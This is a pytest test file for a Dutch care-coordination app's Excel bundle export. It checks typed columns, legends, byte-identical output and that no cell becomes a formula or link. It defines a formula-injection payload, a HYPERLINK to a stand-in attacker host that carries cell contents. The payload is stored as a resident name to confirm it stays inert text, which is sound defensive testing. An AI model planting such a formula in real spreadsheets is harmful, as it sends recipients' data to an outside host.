"""The Excel workbook in case and aggregate bundles, read back as Excel reads it (openpyxl)."""

from __future__ import annotations

import io
import tempfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from tests.bundle_helpers import World, build_world, set_contact_resident
from waakvlam_desktop.bundles import format as fmt
from waakvlam_desktop.bundles.export import export_bundle
from waakvlam_desktop.bundles.reader import OpenedBundle, verify_bytes
from waakvlam_desktop.clock import FixedClock
from waakvlam_desktop.documents.workbook import workbook_bytes
from waakvlam_desktop.domain.exports import Period
from waakvlam_desktop.storage.vault import Vault

NOV = Period.parse("2026-11")
Q4 = Period.parse("2026-Q4")
NOW = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'


@pytest.fixture
def world(vault: Vault) -> World:
    world = build_world(vault)
    set_contact_resident(world, "fam. Jansen", phone="0612345678", name=HOSTILE)
    return world


def _bundle(world: World, partner: str, period: Period, folder: Path) -> OpenedBundle:
    with world.vault.session() as s:
        path = export_bundle(s, world.partners[partner], period, folder).path
    return verify_bytes(path.read_bytes(), world.identity, world.sender)


def _sheet_rows(book: Any, title: str) -> list[dict[str, Any]]:
    sheet = book[title]
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_case_workbook_has_typed_columns_and_a_legend(world: World, tmp_path: Path) -> None:
    bundle = _bundle(world, "Wijkteam", NOV, tmp_path)
    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
    assert book.sheetnames[-1] == "Uitleg"
    assert {"Huishoudens", "Bewoners", "Doorverwijzingen", "Signalen"} <= set(book.sheetnames)
    for title in book.sheetnames[:-1]:
        assert book[title].freeze_panes == "A2", title  # the header row stays in view
    residents = _sheet_rows(book, "Bewoners")
    jansen = next(r for r in residents if r["Naam"].value == HOSTILE)
    # A phone number keeps its leading zero: a text cell, not the number 612345678.
    assert jansen["Telefoon"].value == "0612345678" and jansen["Telefoon"].data_type == "s"
    # Formula text stays text (no apostrophe needed in a typed workbook).
    assert jansen["Naam"].data_type == "s"
    assert "Geboortejaar" not in jansen  # the disclosure spec decides the columns here too
    referrals = _sheet_rows(book, "Doorverwijzingen")
    assert referrals and all(isinstance(r["Aangemaakt"].value, datetime) for r in referrals)
    assert all(r["Aangemaakt"].number_format == "dd-mm-yyyy" for r in referrals)
    signals = _sheet_rows(book, "Signalen")
    assert {r["Ernst"].value for r in signals} == {2}
    assert all(isinstance(r["Waargenomen op"].value, datetime) for r in signals)
    households = _sheet_rows(book, "Huishoudens")
    assert all(h["Postcode"].data_type == "s" for h in households)
    # The same rows as the CSV files, sheet for sheet.
    assert len(households) == bundle.manifest["counts"]["households"]
    legend = [[c.value for c in row] for row in book["Uitleg"].iter_rows(min_row=3)]
    assert ["Ernst", "3", "ernstig"] in legend
    assert ["Status", "in_behandeling", "u werkt aan deze doorverwijzing"] in legend
    # Only the codes of columns it has: this partner gets no concern levels, so no line
    # explains them (nor does any show "acuut").
    assert "Zorgniveau" not in {line[0] for line in legend}
    # No cell anywhere is a formula.
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


def test_aggregate_workbook_counts_are_numbers(
    world: World, clock: FixedClock, tmp_path: Path
) -> None:
    clock.set(datetime(2027, 1, 5, 9, 0, tzinfo=UTC))  # the quarter is over
    bundle = _bundle(world, "Gemeente", Q4, tmp_path)
    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
    assert book.sheetnames == ["Aantallen", "Uitleg"]
    rows = _sheet_rows(book, "Aantallen")
    counts = [r["Huishoudens"].value for r in rows]
    assert rows and any(isinstance(v, int) and v > 0 for v in counts)
    assert all(isinstance(v, int) or v is None for v in counts)
    legend = [[c.value for c in row] for row in book["Uitleg"].iter_rows(min_row=3)]
    # Counts per level are in "categorie" (no column of that name): the levels are explained.
    assert {line[0] for line in legend} == {"Onderdrukt", "Zorgniveau"}
    assert ["Zorgniveau", "acuut", "direct handelen nodig"] in legend


def test_the_workbook_is_dated_by_the_export_not_by_the_computer(
    world: World, clock: FixedClock, tmp_path: Path
) -> None:
    """The workbook's own creation time is the bundle's ``created_at``, from the vault's clock.
    XlsxWriter wrote the computer's time instead: a second apart, two builds of one bundle then
    differed in size (its compressed properties), and the workbook contradicted the manifest."""
    clock.set(datetime(2026, 12, 1, 23, 30, 15, tzinfo=UTC))
    bundle = _bundle(world, "Wijkteam", NOV, tmp_path)
    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
    assert book.properties.created == datetime(2026, 12, 1, 23, 30, 15)
    assert bundle.manifest["created_at"].startswith("2026-12-01T23:30:15")


def test_one_table_at_one_moment_gives_the_same_bytes() -> None:
    """The size limits of a bundle are checked on the workbook's bytes: a second build of
    the same rows at the same moment must not differ by a byte."""
    rows = [["0612345678", "2026-11-10", 3]] * 50
    table = {"residents": (["telefoon", "datum", "aantal"], rows)}
    moment = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
    first = workbook_bytes(table, created=moment)
    # A naive moment is UTC, as the vault stores it; another zone is the same instant.
    assert workbook_bytes(table, created=moment.replace(tzinfo=None)) == first
    assert workbook_bytes(table, created=moment.astimezone(ZoneInfo("Europe/Amsterdam"))) == first
    assert workbook_bytes(table, created=datetime(2026, 11, 27, 10, 0, 1, tzinfo=UTC)) != first


def test_handover_bundles_carry_no_workbook(world: World, tmp_path: Path) -> None:
    bundle = _bundle(world, "Collega", NOV, tmp_path)
    assert fmt.WORKBOOK not in bundle.members


def test_the_workbook_never_touches_disk(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """XlsxWriter writes temporary files by default; here it must work in memory only."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    monkeypatch.setenv("TMPDIR", str(scratch))
    seen: list[str] = []
    real = tempfile.mkstemp

    def watching(*args: Any, **kwargs: Any) -> Any:
        seen.append(str(args or kwargs))
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", watching)
    rows = [["0612345678", "2026-11-10", 3]] * 2000
    data = workbook_bytes({"residents": (["telefoon", "datum", "aantal"], rows)}, created=NOW)
    assert data.startswith(b"PK") and seen == [] and list(scratch.iterdir()) == []


def test_links_and_numbers_in_text_stay_text() -> None:
    """A name that looks like a link or a number is not turned into one."""
    rows = [["http://aanvaller.example/x", "1e5", "mailto:a@b.example", "2026-11-30T23:30:00"]]
    data = workbook_bytes(
        {"residents": (["naam", "telefoon", "straat", "aangemaakt"], rows)}, created=NOW
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(
            "hyperlink" in archive.read(n).decode()
            for n in archive.namelist()
            if n.endswith(".rels")
        )
    sheet = load_workbook(io.BytesIO(data))["Bewoners"]
    cells = [c for c in next(sheet.iter_rows(min_row=2))]
    assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]
    assert cells[1].value == "1e5"
    # 23:30 UTC on 30 November is 1 December in the Netherlands.
    assert cells[3].value == datetime(2026, 12, 1)
